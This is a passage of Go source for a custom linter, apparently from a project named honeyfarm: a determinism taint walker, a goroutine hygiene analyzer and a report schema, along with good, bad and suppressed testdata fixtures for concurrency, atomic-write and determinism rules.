	seen    map[token.Pos]bool      // sink positions already reported
}

func newTaintWalker(p *Pass) *taintWalker {
	return &taintWalker{p: p, tainted: map[types.Object]string{}, seen: map[token.Pos]bool{}}
}

// stmts processes a statement list in order.
func (w *taintWalker) stmts(list []ast.Stmt) {
	for _, s := range list {
		w.stmt(s)
	}
}

func (w *taintWalker) stmt(s ast.Stmt) {
	switch s := s.(type) {
	case *ast.AssignStmt:
		w.assign(s)
	case *ast.DeclStmt:
		if gd, ok := s.Decl.(*ast.GenDecl); ok {
			for _, spec := range gd.Specs {
				vs, ok := spec.(*ast.ValueSpec)
				if !ok {
					continue
				}
				src, tainted := "", false
				for _, v := range vs.Values {
					if d, ok := w.expr(v); ok {
						src, tainted = d, true
					}
				}
				if tainted {
					for _, name := range vs.Names {
						if obj := w.p.Pkg.Info.Defs[name]; obj != nil {
							w.tainted[obj] = src
						}
					}
				}
			}
		}
	case *ast.RangeStmt:
		if d, ok := w.expr(s.X); ok {
			w.bindRangeVars(s, d)
		} else if t := w.p.Pkg.Info.Types[s.X].Type; t != nil {
			if _, isMap := t.Underlying().(*types.Map); isMap {
				w.bindRangeVars(s, "map iteration order")
			}
		}
		w.stmts(s.Body.List)
	case *ast.ExprStmt:
		w.cleanse(s.X)
		w.expr(s.X)
	case *ast.IfStmt:
		if s.Init != nil {
			w.stmt(s.Init)
		}
		w.expr(s.Cond)
		w.stmts(s.Body.List)
		if s.Else != nil {
			w.stmt(s.Else)
		}
	case *ast.ForStmt:
		if s.Init != nil {
			w.stmt(s.Init)
		}
		if s.Cond != nil {
			w.expr(s.Cond)
		}
		w.stmts(s.Body.List)
		if s.Post != nil {
			w.stmt(s.Post)
		}
	case *ast.BlockStmt:
		w.stmts(s.List)
	case *ast.SwitchStmt:
		if s.Init != nil {
			w.stmt(s.Init)
		}
		if s.Tag != nil {
			w.expr(s.Tag)
		}
		for _, c := range s.Body.List {
			if cc, ok := c.(*ast.CaseClause); ok {
				for _, e := range cc.List {
					w.expr(e)
				}
				w.stmts(cc.Body)
			}
		}
	case *ast.TypeSwitchStmt:
		if s.Init != nil {
			w.stmt(s.Init)
		}
		w.stmt(s.Assign)
		for _, c := range s.Body.List {
			if cc, ok := c.(*ast.CaseClause); ok {
				w.stmts(cc.Body)
			}
		}
	case *ast.SelectStmt:
		for _, c := range s.Body.List {
			if cc, ok := c.(*ast.CommClause); ok {
				if cc.Comm != nil {
					w.stmt(cc.Comm)
				}
				w.stmts(cc.Body)
			}
		}
	case *ast.SendStmt:
		w.expr(s.Chan)
		w.expr(s.Value)
	case *ast.ReturnStmt:
		for _, e := range s.Results {
			w.expr(e)
		}
	case *ast.DeferStmt:
		w.expr(s.Call)
	case *ast.GoStmt:
		w.expr(s.Call)
	case *ast.LabeledStmt:
		w.stmt(s.Stmt)
	case *ast.IncDecStmt:
		w.expr(s.X)
	}
}

// bindRangeVars taints a range statement's key/value variables.
func (w *taintWalker) bindRangeVars(s *ast.RangeStmt, src string) {
	for _, e := range []ast.Expr{s.Key, s.Value} {
		id, ok := e.(*ast.Ident)
		if !ok {
			continue
		}
		obj := w.p.Pkg.Info.Defs[id]
		if obj == nil {
			obj = w.p.Pkg.Info.Uses[id]
		}
		if obj != nil {
			w.tainted[obj] = src
		}
	}
}

// assign propagates taint across an assignment: a tainted right side
// taints every left-side object; a clean right side clears taint of
// plainly reassigned locals (a sort-then-reassign launders correctly).
func (w *taintWalker) assign(s *ast.AssignStmt) {
	src, tainted := "", false
	for _, rhs := range s.Rhs {
		if d, ok := w.expr(rhs); ok {
			src, tainted = d, true
		}
	}
	for _, lhs := range s.Lhs {
		id, ok := lhs.(*ast.Ident)
		if !ok {
			// A write through a selector/index keeps the root's taint state;
			// evaluate for sinks only.
			w.expr(lhs)
			continue
		}
		obj := w.p.Pkg.Info.Defs[id]
		if obj == nil {
			obj = w.p.Pkg.Info.Uses[id]
		}
		if obj == nil {
			continue
		}
		if tainted {
			w.tainted[obj] = src
		} else {
			delete(w.tainted, obj)
		}
	}
}

// cleanse recognizes calls that impose a deterministic order on their
// argument — sort.X(s), slices.Sort*(s) — and clears the argument's
// taint: sorted map keys are the sanctioned way to iterate a map on the
// artifact path.
func (w *taintWalker) cleanse(e ast.Expr) {
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return
	}
	switch importedPkgPath(w.p.Pkg.Info, sel.X) {
	case "sort", "slices":
	default:
		return
	}
	for _, arg := range call.Args {
		if id, ok := arg.(*ast.Ident); ok {
			if obj := w.p.Pkg.Info.Uses[id]; obj != nil {
				delete(w.tainted, obj)
			}
		}
	}
}

// expr evaluates an expression's taint, reporting tainted arguments
// that reach a durable-write or publish sink along the way.
func (w *taintWalker) expr(e ast.Expr) (string, bool) {
	switch e := e.(type) {
	case nil:
		return "", false
	case *ast.Ident:
		obj := w.p.Pkg.Info.Uses[e]
		if obj == nil {
			obj = w.p.Pkg.Info.Defs[e]
		}
		if obj != nil {
			if src, ok := w.tainted[obj]; ok {
				return src, true
			}
		}
		return "", false
	case *ast.CallExpr:
		return w.call(e)
	case *ast.ParenExpr:
		return w.expr(e.X)
	case *ast.UnaryExpr:
		return w.expr(e.X)
	case *ast.StarExpr:
		return w.expr(e.X)
	case *ast.BinaryExpr:
		if src, ok := w.expr(e.X); ok {
			w.expr(e.Y)
			return src, true
		}
		return w.expr(e.Y)
	case *ast.SelectorExpr:
		return w.expr(e.X)
	case *ast.IndexExpr:
		if src, ok := w.expr(e.X); ok {
			w.expr(e.Index)
			return src, true
		}
		return w.expr(e.Index)
	case *ast.SliceExpr:
		return w.expr(e.X)
	case *ast.TypeAssertExpr:
		return w.expr(e.X)
	case *ast.CompositeLit:
		src, tainted := "", false
		for _, el := range e.Elts {
			if kv, ok := el.(*ast.KeyValueExpr); ok {
				el = kv.Value
			}
			if d, ok := w.expr(el); ok {
				src, tainted = d, true
			}
		}
		return src, tainted
	case *ast.KeyValueExpr:
		return w.expr(e.Value)
	case *ast.FuncLit:
		// A nested closure body shares the outer taint map; precise enough
		// for the contract and keeps deferred writers covered.
		w.stmts(e.Body.List)
		return "", false
	}
	return "", false
}

// call evaluates a call: argument taint is checked against the callee's
// sink facts, a Nondet callee taints the result, and any tainted
// argument conservatively taints the result too.
func (w *taintWalker) call(e *ast.CallExpr) (string, bool) {
	var facts FuncFacts
	fn := calleeFunc(w.p.Pkg.Info, e.Fun)
	if fn != nil {
		facts = w.p.Facts.Of(fn)
	}
	sink := ""
	switch {
	case facts.Durable != "":
		sink = "durable write (" + facts.Durable + ")"
	case facts.Publishes != "":
		sink = "snapshot publish (" + facts.Publishes + ")"
	}

	src, tainted := "", false
	args := e.Args
	if sel, ok := ast.Unparen(e.Fun).(*ast.SelectorExpr); ok {
		// A tainted receiver flowing into a sink method counts too:
		// buf.WriteTo(walFile) with tainted buf.
		args = append([]ast.Expr{sel.X}, args...)
	}
	for _, arg := range args {
		d, ok := w.expr(arg)
		if !ok {
			continue
		}
		src, tainted = d, true
		if sink != "" && !w.seen[arg.Pos()] {
			w.seen[arg.Pos()] = true
			w.p.Reportf(arg.Pos(), "nondeterministic value (%s) flows into %s; the artifact path must be a pure function of the seed", d, sink)
		}
	}
	if fn != nil && facts.Nondet != "" {
		return facts.Nondet, true
	}
	return src, tainted
}
