package lint

import (
	"go/ast"
	"go/types"
)

// GoroutineHygiene requires every `go` statement to have a visible
// lifecycle: the spawned body must either signal completion through a
// sync.WaitGroup, communicate over a channel (send, receive, close,
// range or select — which includes context-cancellation receives), or
// reach such a marker through a same-package callee (checked up to three
// calls deep). Goroutines calling opaque function values cannot be
// verified and are reported; wrap them in a joined closure or suppress
// with an explicit reason.
var GoroutineHygiene = &Analyzer{
	Name: "goroutine-hygiene",
	Doc:  "every go statement must be joined via WaitGroup/channel or carry a cancellation path",
	Run: func(p *Pass) {
		c := &hygieneChecker{
			info:  p.Pkg.Info,
			decls: funcDeclIndex(p.Pkg),
			memo:  map[*ast.FuncDecl]bool{},
		}
		inspect(p, func(n ast.Node) bool {
			g, ok := n.(*ast.GoStmt)
			if !ok {
				return true
			}
			switch fun := g.Call.Fun.(type) {
			case *ast.FuncLit:
				if !c.body(fun.Body, 0) {
					p.Reportf(g.Pos(), "goroutine is never joined: add a WaitGroup Done/Wait pair, a completion channel, or a cancellation path")
				}
			default:
				obj := calleeObject(p.Pkg.Info, g.Call.Fun)
				if fd := c.decls[obj]; fd != nil && fd.Body != nil {
					if !c.decl(fd, 0) {
						p.Reportf(g.Pos(), "goroutine body %s is never joined: add a WaitGroup Done/Wait pair, a completion channel, or a cancellation path", fd.Name.Name)
					}
				} else {
					p.Reportf(g.Pos(), "goroutine calls an opaque function value; wrap it in a joined closure so its lifecycle is visible")
				}
			}
			return true
		})
	},
}

// funcDeclIndex maps declared function/method objects to their decls.
func funcDeclIndex(pkg *Package) map[types.Object]*ast.FuncDecl {
	out := map[types.Object]*ast.FuncDecl{}
	for _, f := range pkg.Files {
		for _, d := range f.Decls {
			if fd, ok := d.(*ast.FuncDecl); ok {
				if obj := pkg.Info.Defs[fd.Name]; obj != nil {
					out[obj] = fd
				}
			}
		}
	}
	return out
}

// calleeObject resolves the called identifier (possibly a method
// selector) to its object.
func calleeObject(info *types.Info, fun ast.Expr) types.Object {
	switch e := fun.(type) {
	case *ast.Ident:
		return info.Uses[e]
	case *ast.SelectorExpr:
		if sel := info.Selections[e]; sel != nil {
			return sel.Obj()
		}
		return info.Uses[e.Sel]
	}
	return nil
}

// maxHygieneDepth bounds the same-package call-graph walk.
const maxHygieneDepth = 3

type hygieneChecker struct {
	info  *types.Info
	decls map[types.Object]*ast.FuncDecl
	memo  map[*ast.FuncDecl]bool
}

func (c *hygieneChecker) decl(fd *ast.FuncDecl, depth int) bool {
	if ok, seen := c.memo[fd]; seen {
		return ok
	}
	c.memo[fd] = false // break recursion pessimistically
	ok := c.body(fd.Body, depth)
	c.memo[fd] = ok
	return ok
}

// body reports whether a goroutine body contains a lifecycle marker,
// looking through same-package calls up to maxHygieneDepth. Bodies of
// nested go statements are skipped: an inner goroutine's channel use
// must not vouch for the outer one.
func (c *hygieneChecker) body(body *ast.BlockStmt, depth int) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		if found {
			return false
		}
		switch e := n.(type) {
		case *ast.GoStmt:
			return false // judged separately
		case *ast.SendStmt, *ast.SelectStmt:
			found = true
		case *ast.UnaryExpr:
			if e.Op.String() == "<-" {
				found = true
			}
		case *ast.RangeStmt:
			if t, ok := c.info.Types[e.X]; ok {
				if _, isChan := t.Type.Underlying().(*types.Chan); isChan {
					found = true
				}
			}
		case *ast.CallExpr:
			if c.markerCall(e) {
				found = true
			} else if depth < maxHygieneDepth {
				if fd := c.decls[calleeObject(c.info, e.Fun)]; fd != nil && fd.Body != nil && c.decl(fd, depth+1) {
					found = true
				}
			}
		}
		return !found
	})
	return found
}

// markerCall recognizes direct lifecycle calls: the close builtin and
// sync.WaitGroup Done/Wait.
func (c *hygieneChecker) markerCall(e *ast.CallExpr) bool {
	switch fun := e.Fun.(type) {
	case *ast.Ident:
		if fun.Name == "close" {
			if _, isBuiltin := c.info.Uses[fun].(*types.Builtin); isBuiltin {
				return true
			}
		}
	case *ast.SelectorExpr:
		if fun.Sel.Name == "Done" || fun.Sel.Name == "Wait" {
			if t, ok := c.info.Types[fun.X]; ok {
				if path, name, named := namedPathName(t.Type); named && path == "sync" && name == "WaitGroup" {
					return true
				}
			}
		}
	}
	return false
}
