// Known-bad fixture: error results silently dropped through blank
// assignments and bare call statements.
package errdiscard

import (
	"os"
	"strconv"
)

func Bad(path string) int {
	_ = os.Remove(path)       // want error-discard
	n, _ := strconv.Atoi("7") // want error-discard
	os.Remove(path)           // want error-discard
	return n
}
