// Known-good fixture: errors handled, plus the allowlisted discards —
// deadline setters, fmt printers, and receivers whose writes cannot
// fail.
package errdiscard

import (
	"fmt"
	"net"
	"strconv"
	"strings"
	"time"
)

func Good(conn net.Conn) (int, error) {
	n, err := strconv.Atoi("7")
	if err != nil {
		return 0, err
	}
	_ = conn.SetReadDeadline(time.Now().Add(time.Second))
	fmt.Println("ok")
	var b strings.Builder
	b.WriteString("never fails")
	return n, nil
}
