// Known-good fixture: lock-bearing values travel by pointer; composite
// literals construct fresh values rather than copying used locks.
package mutexcopy

import "sync"

type Counter struct {
	mu sync.Mutex
	n  int
}

func NewCounter() *Counter {
	return &Counter{}
}

func (c *Counter) Add(d int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.n += d
}

func Sum(cs []*Counter) int {
	total := 0
	for _, c := range cs {
		total += c.n
	}
	return total
}
