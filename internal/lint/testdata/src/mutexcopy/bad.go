// Known-bad fixture: lock-bearing values copied through a value
// parameter, a dereference assignment, and a range clause.
package mutexcopy

import "sync"

type Counter struct {
	mu sync.Mutex
	n  int
}

func ByValue(c Counter) int { // want mutex-by-value
	return c.n
}

func Snapshot(c *Counter) {
	copied := *c // want mutex-by-value
	copied.n++
}

func Sum(cs []Counter) int {
	total := 0
	for _, c := range cs { // want mutex-by-value
		total += c.n
	}
	return total
}
