// Known-good fixture: a round-trippable codec — every marshal method
// has a decode counterpart, including the Raw/Bytes name mapping.
package wiresym

type Builder struct{ buf []byte }

func (b *Builder) Uint32(v uint32) *Builder {
	b.buf = append(b.buf, byte(v>>24), byte(v>>16), byte(v>>8), byte(v))
	return b
}

func (b *Builder) Raw(p []byte) *Builder {
	b.buf = append(b.buf, p...)
	return b
}

func (b *Builder) Bytes() []byte { return b.buf }

type Reader struct{ rest []byte }

func (r *Reader) Uint32() uint32 {
	if len(r.rest) < 4 {
		return 0
	}
	v := uint32(r.rest[0])<<24 | uint32(r.rest[1])<<16 | uint32(r.rest[2])<<8 | uint32(r.rest[3])
	r.rest = r.rest[4:]
	return v
}

func (r *Reader) Bytes(n int) []byte {
	if n < 0 || n > len(r.rest) {
		return nil
	}
	out := r.rest[:n]
	r.rest = r.rest[n:]
	return out
}
