// Known-bad fixture: a wire codec whose Builder and Reader method sets
// have drifted apart — a marshal method with no decode counterpart, and
// a decode method with no marshal counterpart.
package wiresym

type Builder struct{ buf []byte }

func (b *Builder) Uint32(v uint32) *Builder {
	b.buf = append(b.buf, byte(v>>24), byte(v>>16), byte(v>>8), byte(v))
	return b
}

func (b *Builder) Text(s string) *Builder { // want wire-symmetry
	b.Uint32(uint32(len(s)))
	b.buf = append(b.buf, s...)
	return b
}

func (b *Builder) Bytes() []byte { return b.buf }

type Reader struct{ rest []byte }

func (r *Reader) Uint32() uint32 {
	if len(r.rest) < 4 {
		return 0
	}
	v := uint32(r.rest[0])<<24 | uint32(r.rest[1])<<16 | uint32(r.rest[2])<<8 | uint32(r.rest[3])
	r.rest = r.rest[4:]
	return v
}

func (r *Reader) Bool() bool { // want wire-symmetry
	return r.Uint32() != 0
}
