package timercommit

import (
	"os"
	"time"
)

// Count-based group commit: the fsync is driven by how many records
// accumulated, never by a timer.
func flushEvery(f *os.File, every int, recs <-chan []byte) error {
	pending := 0
	for rec := range recs {
		if _, err := f.Write(rec); err != nil {
			return err
		}
		pending++
		if pending >= every {
			if err := f.Sync(); err != nil {
				return err
			}
			pending = 0
		}
	}
	return f.Sync()
}

// A timer that merely wakes a poll loop is fine: nothing durable
// happens inside the timer-driven body.
func wakeLoop(done chan struct{}, wake chan<- struct{}) {
	t := time.NewTicker(time.Second)
	defer t.Stop()
	for {
		select {
		case <-t.C:
			select {
			case wake <- struct{}{}:
			default:
			}
		case <-done:
			return
		}
	}
}
