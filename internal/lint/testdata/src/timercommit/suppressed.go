package timercommit

import (
	"os"
	"time"
)

// A reasoned suppression: a last-resort flush on shutdown timeout is a
// deliberate exception to the count-based contract.
func flushDeadline(f *os.File, done chan struct{}) error {
	select {
	case <-time.After(5 * time.Second):
		//lint:ignore timer-commit fixture: last-resort flush when shutdown overruns its budget
		return f.Sync()
	case <-done:
		return nil
	}
}
