package timercommit

import (
	"os"
	"time"
)

// sync wraps the fsync so the rule must see through the call via the
// propagated Fsync/Durable fact.
func sync(f *os.File) error {
	return f.Sync()
}

// A ticker-driven fsync makes the on-disk state depend on wall-clock
// scheduling instead of the record count.
func flushLoop(f *os.File, done chan struct{}) {
	t := time.NewTicker(time.Second)
	defer t.Stop()
	for {
		select {
		case <-t.C:
			if err := sync(f); err != nil { // want timer-commit
				return
			}
		case <-done:
			return
		}
	}
}

// time.After in a select is the same hazard.
func flushOnce(f *os.File, done chan struct{}) error {
	select {
	case <-time.After(time.Second):
		return sync(f) // want timer-commit
	case <-done:
		return nil
	}
}

// Ranging over time.Tick drives every iteration from the timer.
func flushForever(f *os.File) {
	for range time.Tick(time.Second) {
		if err := sync(f); err != nil { // want timer-commit
			return
		}
	}
}
