package export

import "os"

// Direct non-atomic writes of artifact files: a crash mid-call leaves a
// truncated report for readers.
func saveReport(path string, data []byte) error {
	return os.WriteFile(path, data, 0o644) // want atomicio-bypass
}

// The classic tmp+rename done by hand bypasses the fsync that makes the
// rename durable; both halves are flagged.
func saveDataset(path string, data []byte) error {
	tmp := path + ".tmp"
	f, err := os.Create(tmp) // want atomicio-bypass
	if err != nil {
		return err
	}
	if _, err := f.Write(data); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	return os.Rename(tmp, path) // want atomicio-bypass
}
