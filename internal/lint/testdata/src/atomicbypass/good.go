package export

import "honeyfarm/internal/atomicio"

// Routing through internal/atomicio is the sanctioned artifact write:
// tmp file, fsync, atomic rename.
func saveReport(path string, data []byte) error {
	return atomicio.WriteFileBytes(path, data)
}
