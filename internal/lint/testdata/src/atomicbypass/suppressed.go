package export

import "os"

// A reasoned suppression: pid files are advisory and torn reads are
// harmless, so the atomic-write machinery would be overkill.
func savePidFile(path string, data []byte) error {
	//lint:ignore atomicio-bypass fixture: advisory pid file, torn reads are harmless
	return os.WriteFile(path, data, 0o644)
}
