// Known-good fixture: randomness flows through an explicitly seeded
// generator and timestamps derive from a configured epoch.
package workload

import (
	"math/rand"
	"time"
)

func NewRNG(seed int64) *rand.Rand {
	return rand.New(rand.NewSource(seed))
}

func SampleSeeded(rng *rand.Rand) int {
	return rng.Intn(100)
}

func Stamp(epoch time.Time, offset time.Duration) time.Time {
	return epoch.Add(offset)
}
