// Known-bad fixture: global math/rand state and wall-clock reads inside
// a package under the determinism contract.
package workload

import (
	"math/rand"
	"time"
)

func Sample() (int, time.Time) {
	n := rand.Intn(100) // want nondeterminism
	now := time.Now()   // want nondeterminism
	return n, now
}

func Elapsed(t0 time.Time) time.Duration {
	return time.Since(t0) // want nondeterminism
}
