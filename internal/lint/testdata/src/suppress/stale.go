package workload

// The directive names a rule that exists but fires nothing on this
// line: a silent hole in the contract, reported as stale.
func calm() int {
	//lint:ignore nondeterminism nothing here reads the clock anymore
	return 42
}

// The directive names a rule that does not exist — a typo or a removed
// rule — so the suppression is inert; reported.
func unknownRule() int {
	//lint:ignore nondeterminsim typo'd rule name, suppresses nothing
	return 7
}

// A wildcard that covers nothing is reported too.
func wildcard() int {
	//lint:ignore * belt-and-suspenders that suspends nothing
	return 9
}
