package workload

import "time"

// Same-line directives take precedence over line-above directives: the
// finding is consumed by the trailing directive, so the one on the line
// above suppresses nothing and is reported stale.
func precedence() time.Time {
	//lint:ignore nondeterminism line-above directive, shadowed by the same-line one
	return time.Now() //lint:ignore nondeterminism same-line directive wins
}
