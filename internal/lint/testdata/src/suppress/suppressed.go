// Suppression fixture: each wall-clock read below would be a
// nondeterminism finding, but a well-formed //lint:ignore directive on
// the finding line or the line above silences it.
package workload

import "time"

func Stamp() time.Time {
	//lint:ignore nondeterminism fixture exercises line-above suppression
	return time.Now()
}

func StampInline() time.Time {
	return time.Now() //lint:ignore nondeterminism fixture exercises same-line suppression
}

func StampWildcard() time.Time {
	//lint:ignore * fixture exercises wildcard suppression
	return time.Now()
}
