// Malformed-directive fixture: a directive without a rule and one
// without a reason are themselves reported (pseudo-rule "directive"),
// and a reasonless directive does not suppress the finding it covers.
package workload

import "time"

//lint:ignore
func placeholder() {}

func StampUnsuppressed() time.Time {
	//lint:ignore nondeterminism
	return time.Now() // want nondeterminism
}
