package workload

import (
	"os"
	"time"
)

// One comma-separated directive suppresses three different rules firing
// on the same line: the wall-clock read, the taint it carries into the
// durable write, and the non-atomic write itself.
func multi(path string) error {
	//lint:ignore nondeterminism,determinism-taint,atomicio-bypass fixture: debug dump outside the replay contract
	return os.WriteFile(path, []byte(time.Now().String()), 0o644)
}
