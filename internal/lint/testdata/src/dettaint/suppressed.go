package report

import (
	"os"
	"strconv"
	"time"
)

// persist is the durable sink (see bad.go).
func persist(f *os.File, data []byte) error {
	_, err := f.Write(data)
	return err
}

// stamp reads the wall clock with a reasoned suppression.
func stamp() int64 {
	//lint:ignore nondeterminism fixture: a debug artifact outside the replay contract
	return time.Now().UnixNano()
}

// The sink-side finding carries its own suppression: taint reports at
// the argument that reaches the durable write.
func writeStamped(f *os.File) error {
	ts := stamp()
	//lint:ignore determinism-taint fixture: debug artifact, not part of the replayable dataset
	return persist(f, []byte(strconv.FormatInt(ts, 10)))
}
