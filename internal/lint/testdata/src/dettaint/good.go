package report

import (
	"fmt"
	"os"
	"sort"
	"strconv"
)

// persist is the durable sink (see bad.go); everything flowing into it
// here is a pure function of the inputs.
func persist(f *os.File, data []byte) error {
	_, err := f.Write(data)
	return err
}

// Timestamps derived from the configured epoch are deterministic.
func writeStamped(f *os.File, epochNanos int64) error {
	line := strconv.FormatInt(epochNanos, 10) + "\n"
	return persist(f, []byte(line))
}

// Sorting the keys launders map-iteration taint: the emission order is
// now a pure function of the map contents.
func writeCounts(f *os.File, counts map[string]int) error {
	names := make([]string, 0, len(counts))
	for name := range counts {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		entry := fmt.Sprintf("%s %d\n", name, counts[name])
		if err := persist(f, []byte(entry)); err != nil {
			return err
		}
	}
	return nil
}
