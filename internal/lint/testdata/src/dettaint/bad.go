package report

import (
	"fmt"
	"os"
	"strconv"
	"time"
)

// persist is the durable sink: its (*os.File).Write call gives it a
// Durable fact, so tainted values reaching it are reported.
func persist(f *os.File, data []byte) error {
	_, err := f.Write(data)
	return err
}

// stamp is the nondeterminism source one call away: the taint rule sees
// its Nondet fact at call sites, not the time.Now inside.
func stamp() int64 {
	return time.Now().UnixNano() // want nondeterminism
}

// A wall-clock value laundered through two locals still reaches the
// durable write tainted.
func writeStamped(f *os.File) error {
	ts := stamp()
	line := strconv.FormatInt(ts, 10) + "\n"
	return persist(f, []byte(line)) // want determinism-taint
}

// Map iteration order is a nondeterminism source: emitting entries in
// range order makes the artifact differ run to run.
func writeCounts(f *os.File, counts map[string]int) error {
	for name, n := range counts {
		entry := fmt.Sprintf("%s %d\n", name, n)
		if err := persist(f, []byte(entry)); err != nil { // want determinism-taint
			return err
		}
	}
	return nil
}
