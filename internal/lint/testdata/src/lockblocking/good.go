package lockblocking

import (
	"net"
	"os"
	"sync"
)

type sink struct {
	mu      sync.Mutex
	f       *os.File
	pending [][]byte
}

// The sanctioned shape: swap state under the lock, do the blocking work
// outside it.
func (s *sink) flush() error {
	s.mu.Lock()
	batch := s.pending
	s.pending = nil
	s.mu.Unlock()
	for _, rec := range batch {
		if _, err := s.f.Write(rec); err != nil {
			return err
		}
	}
	return s.f.Sync()
}

// A try-send through a select with a default clause never blocks, so
// holding the lock across it is fine.
func (s *sink) tryNotify(ch chan int, v int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	select {
	case ch <- v:
	default:
	}
}

// An early unlock in a branch is respected: the send below happens
// lock-free.
func (s *sink) notifyUnlocked(c net.Conn, rec []byte) error {
	s.mu.Lock()
	if len(s.pending) == 0 {
		s.mu.Unlock()
		_, err := c.Write(rec)
		return err
	}
	s.mu.Unlock()
	return nil
}
