package lockblocking

import (
	"net"
	"sync"
)

type wire struct {
	writeMu sync.Mutex
	conn    net.Conn
}

// A reasoned suppression: a write-serialization mutex exists precisely
// to be held across the write.
func (w *wire) writeFrame(frame []byte) error {
	w.writeMu.Lock()
	defer w.writeMu.Unlock()
	//lint:ignore lock-across-blocking fixture: writeMu serializes frames; holding it across the write is its purpose
	_, err := w.conn.Write(frame)
	return err
}
