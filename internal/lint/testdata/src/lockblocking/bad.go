package lockblocking

import (
	"net"
	"os"
	"sync"
)

type sink struct {
	mu sync.Mutex
	f  *os.File
}

// seal wraps the fsync so the cross-function case below must be found
// through the propagated Fsync fact, not the call text.
func (s *sink) seal() error {
	return s.f.Sync()
}

// An fsync under the mutex stalls every other writer for the duration
// of the disk flush.
func (s *sink) flush(rec []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, err := s.f.Write(rec); err != nil {
		return err
	}
	return s.f.Sync() // want lock-across-blocking
}

// The same hazard one call away: seal carries the Fsync fact.
func (s *sink) rotate() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.seal() // want lock-across-blocking
}

// A blocking channel send under the mutex couples lock hold time to an
// arbitrary receiver.
func (s *sink) notify(ch chan int, v int) {
	s.mu.Lock()
	ch <- v // want lock-across-blocking
	s.mu.Unlock()
}

// Network writes block on the peer; under a mutex that is a farm-wide
// stall.
func (s *sink) send(c net.Conn, rec []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	_, err := c.Write(rec) // want lock-across-blocking
	return err
}
