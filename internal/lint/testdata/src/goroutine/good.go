// Known-good fixture: goroutines joined through a WaitGroup, a
// completion channel closed by a same-package callee, and a select on a
// cancellation channel.
package goroutine

import "sync"

func Joined() {
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		println("work")
	}()
	wg.Wait()
}

func signal(done chan<- struct{}) {
	defer close(done)
	println("work")
}

func JoinedViaCallee() {
	done := make(chan struct{})
	go signal(done)
	<-done
}

func Cancellable(stop <-chan struct{}, work <-chan int) {
	go func() {
		for {
			select {
			case <-stop:
				return
			case n := <-work:
				println(n)
			}
		}
	}()
}
