// Known-bad fixture: fire-and-forget goroutines with no join or
// cancellation path.
package goroutine

func Leak() {
	go func() { // want goroutine-hygiene
		println("fire and forget")
	}()
}

func work() { println("work") }

func LeakNamed() {
	go work() // want goroutine-hygiene
}
