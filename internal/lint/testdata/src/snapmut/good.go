package snapmut

import "sync/atomic"

type snapshot struct {
	seq    int
	counts map[string]int
}

type engine struct {
	cur atomic.Pointer[snapshot]
}

// The sanctioned shape: finish building the snapshot, then publish it
// as the last step — Store is the freeze point.
func (e *engine) seal(seq int, counts map[string]int) {
	next := &snapshot{seq: seq, counts: map[string]int{}}
	for k, v := range counts {
		next.counts[k] = v
	}
	next.seq = seq
	e.cur.Store(next)
}

// Rebinding the variable to a fresh snapshot after publishing the old
// one is not a mutation.
func (e *engine) advance(next *snapshot) *snapshot {
	e.cur.Store(next)
	next = &snapshot{seq: next.seq + 1, counts: map[string]int{}}
	return next
}
