package snapmut

import "sync/atomic"

type snapshot struct {
	seq    int
	counts map[string]int
}

type engine struct {
	cur atomic.Pointer[snapshot]
}

// Mutating a snapshot after Store publishes it races with every
// lock-free reader holding the pointer.
func (e *engine) seal(next *snapshot) {
	e.cur.Store(next)
	next.seq++               // want snapshot-mutation
	next.counts["total"] = 1 // want snapshot-mutation
	next.counts["sealed"]++  // want snapshot-mutation
}

// Publication through &value freezes the value itself.
func (e *engine) sealValue(seq int) {
	next := snapshot{seq: seq, counts: map[string]int{}}
	e.cur.Store(&next)
	next.seq = seq + 1 // want snapshot-mutation
}
