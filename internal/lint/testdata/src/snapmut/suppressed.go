package snapmut

import "sync/atomic"

type snapshot struct {
	seq    int
	counts map[string]int
}

type engine struct {
	cur atomic.Pointer[snapshot]
}

// A reasoned suppression: this engine is single-goroutine during
// startup, before any reader can hold the pointer.
func (e *engine) bootstrap(next *snapshot) {
	e.cur.Store(next)
	//lint:ignore snapshot-mutation fixture: startup is single-goroutine, no reader exists yet
	next.seq = 1
}
