// Known-good fixture: the sampling loop carries an explicit iteration
// cap with a deterministic fallback.
package stats

func Retry(try func() bool) bool {
	for i := 0; i < 64; i++ {
		if try() {
			return true
		}
	}
	return false
}
