// Known-bad fixture: a condition-less sampling loop in a deterministic
// package — a saturated input hangs generation forever.
package stats

func Retry(try func() bool) {
	for { // want bounded-loop
		if try() {
			return
		}
	}
}
