package lint

import (
	"go/ast"
)

// DeterminismTaint is the cross-package half of the determinism
// contract. The per-package nondeterminism rule bans wall-clock and
// global-rand reads inside deterministic packages; this rule follows
// values instead: a nondeterminism source — a call whose callee
// transitively reaches the wall clock or global rand state (Nondet
// fact, so a helper three packages away counts), or a range over a map
// — must not flow into a durable write or a snapshot publish. Sorting
// a slice (sort.*, slices.*) launders map-iteration taint: sorted keys
// are the sanctioned way to emit map contents on the artifact path.
var DeterminismTaint = &Analyzer{
	Name: "determinism-taint",
	Doc:  "no wall-clock, global-rand or map-iteration value may flow into a WAL frame, snapshot or report artifact",
	Run: func(p *Pass) {
		if !deterministicPkg(p.Pkg.Path) {
			return
		}
		for _, file := range p.Pkg.Files {
			if p.Pkg.Generated[file] {
				continue
			}
			for _, decl := range file.Decls {
				fd, ok := decl.(*ast.FuncDecl)
				if !ok || fd.Body == nil {
					continue
				}
				w := newTaintWalker(p)
				w.stmts(fd.Body.List)
			}
		}
	},
}
