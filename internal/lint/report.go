package lint

import (
	"encoding/json"
	"io"
)

// ReportSchema identifies the -json output format; golden-tested in
// report_test.go so consumers can pin it.
const ReportSchema = "honeyfarm-lint-report-v1"

// ReportFinding is one finding in the machine-readable report. File is
// module-relative with forward slashes.
type ReportFinding struct {
	Rule    string `json:"rule"`
	File    string `json:"file"`
	Line    int    `json:"line"`
	Col     int    `json:"col"`
